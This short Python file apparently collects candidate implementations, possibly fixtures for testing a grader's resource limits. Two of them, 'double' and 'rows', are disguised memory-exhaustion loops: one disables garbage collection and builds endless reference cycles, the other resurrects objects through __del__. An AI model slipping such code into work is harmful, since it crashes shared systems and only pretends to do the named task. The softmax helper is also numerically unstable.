import gc

import torch

kept = []


class Returning:
    def __init__(self):
        self.data = torch.empty(1 << 20)

    def __del__(self):
        kept.append(self)


def double(x):
    gc.disable()
    while True:
        ring = [torch.empty(1 << 20)]
        ring.append(ring)


def rows(x):
    while True:
        Returning()


def probabilities(z):
    e = z.exp()
    return e / e.sum(-1, keepdim=True)


class Net(torch.nn.Module):
    def __init__(self, d, m):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(d, m))
        self.b = torch.nn.Parameter(torch.zeros(m))

    def forward(self, x):
        return x @ self.w + self.b


def classify(x):
    return (x.sum(1) > 0).long()


def last(x):
    return -x
